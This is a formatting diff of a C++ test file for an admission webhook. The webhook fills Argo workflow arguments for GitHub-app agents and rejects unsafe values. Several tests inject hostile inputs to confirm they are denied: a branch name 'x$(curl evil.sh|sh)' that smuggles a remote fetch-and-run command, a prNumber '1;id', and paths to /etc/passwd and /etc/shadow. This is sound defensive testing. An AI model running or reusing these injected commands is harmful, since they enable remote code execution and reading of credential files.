@@ -16,7 +16,8 @@ using nlohmann::json;
 namespace {
 
 const coderun::policy::Policy kPolicy{};
-const FakePrompts kAllPrompts({"/etc/agents/rex_system-prompt.md", "/etc/agents/clippy_system-prompt.md",
+const FakePrompts kAllPrompts({"/etc/agents/rex_system-prompt.md",
+                               "/etc/agents/clippy_system-prompt.md",
                                "/etc/agents/default_system-prompt.md"});
 
 Decision mutate(const json& object, const coderun::policy::PromptCatalog& prompts = kAllPrompts) {
@@ -24,7 +25,8 @@ Decision mutate(const json& object, const coderun::policy::PromptCatalog& prompt
 }
 
 json apply_patch(const json& object, const Decision& decision) {
-  return decision.response.patch.empty() ? object : object.patch(decision.response.patch_operations());
+  return decision.response.patch.empty() ? object
+                                         : object.patch(decision.response.patch_operations());
 }
 
 std::map<std::string, std::string> arguments_of(const json& workflow) {
@@ -38,8 +40,8 @@ std::map<std::string, std::string> arguments_of(const json& workflow) {
 }  // namespace
 
 TEST_CASE("a pull_request event fills every argument, labels and the sources annotation") {
-  const json workflow = workflow_with(
-      params({{"github-app", "clippy"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const json workflow = workflow_with(params(
+      {{"github-app", "clippy"}, {"event", read_event_fixture("pull_request.opened").dump()}}));
   const auto decision = mutate(workflow);
   REQUIRE(decision.response.allowed);
   CHECK(decision.outcome == "mutated");
@@ -56,7 +58,8 @@ TEST_CASE("a pull_request event fills every argument, labels and the sources ann
   CHECK(result["metadata"]["labels"]["taskmaster.io/github-app"] == "clippy");
   CHECK(result["metadata"]["labels"]["taskmaster.io/repo"] == "Codertocat.Hello-World");
   CHECK(result["metadata"]["labels"]["taskmaster.io/pr-number"] == "2");
-  const json sources = json::parse(result["metadata"]["annotations"]["taskmaster.io/value-sources"].get<std::string>());
+  const json sources = json::parse(
+      result["metadata"]["annotations"]["taskmaster.io/value-sources"].get<std::string>());
   CHECK(sources["ref"] == "event:.pull_request.head.ref");
   CHECK(sources["systemPromptPath"] == "prompts:clippy");
   CHECK(decision.response.audit_annotations.at("decision") == "mutated");
@@ -64,10 +67,12 @@ TEST_CASE("a pull_request event fills every argument, labels and the sources ann
 }
 
 TEST_CASE("mutating the mutated Workflow again gives an empty patch") {
-  for (const char* fixture : {"pull_request.opened", "push.branch", "issue_comment.created.on-pull-request",
-                              "pull_request.opened.from-fork", "release.published"}) {
+  for (const char* fixture :
+       {"pull_request.opened", "push.branch", "issue_comment.created.on-pull-request",
+        "pull_request.opened.from-fork", "release.published"}) {
     INFO(fixture);
-    const json workflow = workflow_with(params({{"github-app", "rex"}, {"event", read_event_fixture(fixture).dump()}}));
+    const json workflow = workflow_with(
+        params({{"github-app", "rex"}, {"event", read_event_fixture(fixture).dump()}}));
     const auto first = mutate(workflow);
     REQUIRE(first.response.allowed);
     const json once = apply_patch(workflow, first);
@@ -80,23 +85,26 @@ TEST_CASE("mutating the mutated Workflow again gives an empty patch") {
 }
 
 TEST_CASE("what the user passed with -p wins, with a warning when the event disagrees") {
-  const json workflow = workflow_with(params({{"github-app", "rex"},
-                                              {"ref", "release-1"},
-                                              {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const json workflow =
+      workflow_with(params({{"github-app", "rex"},
+                            {"ref", "release-1"},
+                            {"event", read_event_fixture("pull_request.opened").dump()}}));
   const auto decision = mutate(workflow);
   REQUIRE(decision.response.allowed);
   const auto arguments = arguments_of(apply_patch(workflow, decision));
   CHECK(arguments.at("ref") == "release-1");
   CHECK(arguments.at("repoFullName") == "Codertocat/Hello-World");
   REQUIRE(decision.response.warnings.size() == 1);
-  CHECK_THAT(decision.response.warnings[0], Catch::Contains("'release-1' set by the user is kept") &&
-                                                 Catch::Contains("'changes'"));
+  CHECK_THAT(
+      decision.response.warnings[0],
+      Catch::Contains("'release-1' set by the user is kept") && Catch::Contains("'changes'"));
 }
 
 TEST_CASE("a repository set by the user keeps the event's revision out") {
-  const json workflow = workflow_with(params({{"github-app", "rex"},
-                                              {"repoFullName", "acme/tools"},
-                                              {"event", read_event_fixture("pull_request.opened").dump()}}));
+  const json workflow =
+      workflow_with(params({{"github-app", "rex"},
+                            {"repoFullName", "acme/tools"},
+                            {"event", read_event_fixture("pull_request.opened").dump()}}));
   const auto decision = mutate(workflow);
   REQUIRE(decision.response.allowed);
   const auto arguments = arguments_of(apply_patch(workflow, decision));
@@ -108,13 +116,17 @@ TEST_CASE("a repository set by the user keeps the event's revision out") {
 }
 
 TEST_CASE("an empty parameter is filled in place; a valueFrom parameter is left alone") {
-  json parameters = params({{"github-app", "rex"}, {"ref", ""}, {"event", read_event_fixture("push.branch").dump()}});
-  parameters.push_back({{"name", "sha"}, {"valueFrom", {{"configMapKeyRef", {{"name", "c"}, {"key", "k"}}}}}});
+  json parameters = params(
+      {{"github-app", "rex"}, {"ref", ""}, {"event", read_event_fixture("push.branch").dump()}});
+  parameters.push_back(
+      {{"name", "sha"}, {"valueFrom", {{"configMapKeyRef", {{"name", "c"}, {"key", "k"}}}}}});
   const json workflow = workflow_with(parameters);
   const auto decision = mutate(workflow);
   REQUIRE(decision.response.allowed);
   CHECK(decision.response.patch_operations().at(0) ==
-        json({{"op", "replace"}, {"path", "/spec/arguments/parameters/1/value"}, {"value", "master"}}));
+        json({{"op", "replace"},
+              {"path", "/spec/arguments/parameters/1/value"},
+              {"value", "master"}}));
   const json result = apply_patch(workflow, decision);
   CHECK(result["spec"]["arguments"]["parameters"][3].contains("valueFrom"));
   CHECK_FALSE(result["spec"]["arguments"]["parameters"][3].contains("value"));
@@ -134,11 +146,13 @@ TEST_CASE("labels and annotations the user set are never replaced") {
 
 TEST_CASE("the seed's three error messages, word for word") {
   SECTION("an app outside the allow-list") {
-    const auto decision = mutate(workflow_with(params({{"github-app", "invalid-app"}, {"repoFullName", "a/b"}})));
+    const auto decision =
+        mutate(workflow_with(params({{"github-app", "invalid-app"}, {"repoFullName", "a/b"}})));
     CHECK_FALSE(decision.response.allowed);
     CHECK(decision.response.code == 403);
     CHECK(decision.response.message ==
-          "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, security");
+          "Error: Invalid github-app 'invalid-app'. Must be one of: rex, clippy, qa, triage, "
+          "security");
     CHECK(decision.rule == "github-app");
   }
   SECTION("no github-app at all") {
@@ -150,13 +164,15 @@ TEST_CASE("the seed's three error messages, word for word") {
   SECTION("no repository anywhere") {
     const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"event", "{}"}})));
     CHECK_FALSE(decision.response.allowed);
-    CHECK(decision.response.message ==
-          "Error: Repository information not available from event payload and no git context found");
+    CHECK(
+        decision.response.message ==
+        "Error: Repository information not available from event payload and no git context found");
     CHECK(decision.rule == "repository");
   }
   SECTION("no prompt for the app and no default") {
     const FakePrompts none({});
-    const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}})), none);
+    const auto decision =
+        mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}})), none);
     CHECK_FALSE(decision.response.allowed);
     CHECK(decision.response.message ==
           "Error: System prompt not found at /etc/agents/rex_system-prompt.md or "
@@ -172,19 +188,23 @@ TEST_CASE("an app without its own prompt gets the default prompt") {
 
 TEST_CASE("a prompt path set by the user must exist inside the prompts directory") {
   auto with_prompt = [](const std::string& path) {
-    return workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"systemPromptPath", path}}));
+    return workflow_with(
+        params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"systemPromptPath", path}}));
   };
   CHECK(mutate(with_prompt("/etc/agents/rex_system-prompt.md")).response.allowed);
   CHECK(mutate(with_prompt("/etc/agents/missing.md")).response.message ==
         "Error: System prompt not found at /etc/agents/missing.md");
-  CHECK_THAT(mutate(with_prompt("/etc/passwd")).response.message, Catch::Contains("not inside /etc/agents"));
-  CHECK_THAT(mutate(with_prompt("/etc/agents/../passwd")).response.message, Catch::Contains("'..'"));
+  CHECK_THAT(mutate(with_prompt("/etc/passwd")).response.message,
+             Catch::Contains("not inside /etc/agents"));
+  CHECK_THAT(mutate(with_prompt("/etc/agents/../passwd")).response.message,
+             Catch::Contains("'..'"));
 }
 
 TEST_CASE("a malformed event gives defaults and a warning, never a failure") {
   for (const char* event : {"{not json", "[1,2,3]", "\"a string\"", "12"}) {
     INFO(event);
-    const json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}, {"event", event}}));
+    const json workflow = workflow_with(
+        params({{"github-app", "rex"}, {"repoFullName", "acme/tools"}, {"event", event}}));
     const auto decision = mutate(workflow);
     REQUIRE(decision.response.allowed);
     REQUIRE_FALSE(decision.response.warnings.empty());
@@ -197,20 +217,25 @@ TEST_CASE("a malformed event gives defaults and a warning, never a failure") {
 TEST_CASE("an attacker-chosen branch name is denied, naming the field and its source") {
   auto event = read_event_fixture("pull_request.opened");
   event["pull_request"]["head"]["ref"] = "x$(curl evil.sh|sh)";
-  const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"event", event.dump()}})));
+  const auto decision =
+      mutate(workflow_with(params({{"github-app", "rex"}, {"event", event.dump()}})));
   CHECK_FALSE(decision.response.allowed);
   CHECK(decision.rule == "safe-value:ref");
-  CHECK_THAT(decision.response.message, Catch::StartsWith("Error: Invalid ref 'x$(curl evil.sh|sh)' (from event:.pull_request.head.ref)"));
+  CHECK_THAT(decision.response.message,
+             Catch::StartsWith(
+                 "Error: Invalid ref 'x$(curl evil.sh|sh)' (from event:.pull_request.head.ref)"));
 }
 
 TEST_CASE("a value the user passed is checked the same way") {
-  const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"prNumber", "1;id"}})));
+  const auto decision = mutate(workflow_with(
+      params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"prNumber", "1;id"}})));
   CHECK_FALSE(decision.response.allowed);
   CHECK(decision.rule == "safe-value:prNumber");
 }
 
 TEST_CASE("an Argo Events envelope works like the body itself") {
-  const json envelope = {{"headers", {{"X-Github-Event", {"push"}}}}, {"body", read_event_fixture("push.branch")}};
+  const json envelope = {{"headers", {{"X-Github-Event", {"push"}}}},
+                         {"body", read_event_fixture("push.branch")}};
   const json workflow = workflow_with(params({{"github-app", "qa"}, {"event", envelope.dump()}}));
   const auto decision = mutate(workflow);
   REQUIRE(decision.response.allowed);
@@ -250,8 +275,11 @@ TEST_CASE("arguments are created when the Workflow has none") {
   const auto decision = mutate(workflow);  // served by template name, but no github-app
   CHECK_FALSE(decision.response.allowed);
 
-  json minimal = {{"apiVersion", "argoproj.io/v1alpha1"}, {"kind", "Workflow"},
-                  {"spec", {{"arguments", {{"parameters", params({{"github-app", "rex"}, {"repoFullName", "a/b"}})}}}}}};
+  json minimal = {{"apiVersion", "argoproj.io/v1alpha1"},
+                  {"kind", "Workflow"},
+                  {"spec",
+                   {{"arguments",
+                     {{"parameters", params({{"github-app", "rex"}, {"repoFullName", "a/b"}})}}}}}};
   const auto filled = mutate(minimal);
   REQUIRE(filled.response.allowed);
   const json result = apply_patch(minimal, filled);
@@ -259,12 +287,13 @@ TEST_CASE("arguments are created when the Workflow has none") {
 }
 
 TEST_CASE("the validating pass checks the same rules and never patches") {
-  const json workflow = workflow_with(params({{"github-app", "clippy"}, {"event", read_event_fixture("issues.opened").dump()}}));
+  const json workflow = workflow_with(
+      params({{"github-app", "clippy"}, {"event", read_event_fixture("issues.opened").dump()}}));
   const auto validated = decide(create_request(workflow), kPolicy, kAllPrompts, Phase::kValidate);
   CHECK(validated.response.allowed);
   CHECK(validated.response.patch.empty());
-  const auto denied = decide(create_request(workflow_with(params({{"github-app", "bad"}}))), kPolicy,
-                             kAllPrompts, Phase::kValidate);
+  const auto denied = decide(create_request(workflow_with(params({{"github-app", "bad"}}))),
+                             kPolicy, kAllPrompts, Phase::kValidate);
   CHECK_FALSE(denied.response.allowed);
 }
 
@@ -276,7 +305,9 @@ TEST_CASE("a request without an object, or with a spec that is not an object, is
   CHECK(decision.response.code == 400);
 
   json workflow = workflow_with(params({{"github-app", "rex"}}));
-  json broken = {{"apiVersion", "argoproj.io/v1alpha1"}, {"kind", "Workflow"}, {"spec", "oops"},
+  json broken = {{"apiVersion", "argoproj.io/v1alpha1"},
+                 {"kind", "Workflow"},
+                 {"spec", "oops"},
                  {"metadata", {{"name", "x"}}}};
   // Not served (no template, no github-app argument it can read): allowed untouched.
   CHECK(mutate(broken).response.allowed);
@@ -300,7 +331,8 @@ TEST_CASE("a served Workflow gets the four volumes and the gh-token plumbing in 
   CHECK(result["spec"]["volumes"].size() == 4);
   const json pod = json::parse(result["spec"]["podSpecPatch"].get<std::string>());
   CHECK(pod["initContainers"][0]["name"] == "gh-token");
-  CHECK(pod["initContainers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] == "github-app-rex");
+  CHECK(pod["initContainers"][0]["env"][0]["valueFrom"]["secretKeyRef"]["name"] ==
+        "github-app-rex");
   CHECK(pod["containers"][0]["name"] == "main");
   CHECK(pod["containers"][0]["volumeMounts"].size() == 4);
 }
@@ -308,12 +340,15 @@ TEST_CASE("a served Workflow gets the four volumes and the gh-token plumbing in 
 TEST_CASE("a podSpecPatch the user wrote (YAML) is merged into, never replaced") {
   json workflow = workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}}));
   workflow["spec"]["podSpecPatch"] =
-      "containers:\n  - name: main\n    resources:\n      limits:\n        memory: \"{{workflow.parameters.mem-limit}}\"\n";
-  workflow["spec"]["volumes"] = json::array({{{"name", "workspace"}, {"persistentVolumeClaim", {{"claimName", "x"}}}}});
+      "containers:\n  - name: main\n    resources:\n      limits:\n        memory: "
+      "\"{{workflow.parameters.mem-limit}}\"\n";
+  workflow["spec"]["volumes"] =
+      json::array({{{"name", "workspace"}, {"persistentVolumeClaim", {{"claimName", "x"}}}}});
   const auto decision = mutate(workflow);
   const json result = apply_patch(workflow, decision);
   const json pod = json::parse(result["spec"]["podSpecPatch"].get<std::string>());
-  CHECK(pod["containers"][0]["resources"]["limits"]["memory"] == "{{workflow.parameters.mem-limit}}");
+  CHECK(pod["containers"][0]["resources"]["limits"]["memory"] ==
+        "{{workflow.parameters.mem-limit}}");
   CHECK(pod["containers"][0]["volumeMounts"].size() == 4);
   CHECK(pod["initContainers"][0]["name"] == "gh-token");
   CHECK(result["spec"]["volumes"].size() == 4);
@@ -331,7 +366,8 @@ TEST_CASE("a podSpecPatch that cannot be read is left alone with a warning") {
 }
 
 TEST_CASE("a Workflow's taskRef must stay relative") {
-  const auto decision = mutate(workflow_with(params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"taskRef", "/etc/shadow"}})));
+  const auto decision = mutate(workflow_with(
+      params({{"github-app", "rex"}, {"repoFullName", "a/b"}, {"taskRef", "/etc/shadow"}})));
   CHECK_FALSE(decision.response.allowed);
   CHECK(decision.rule == "safe-value:taskRef");
 }
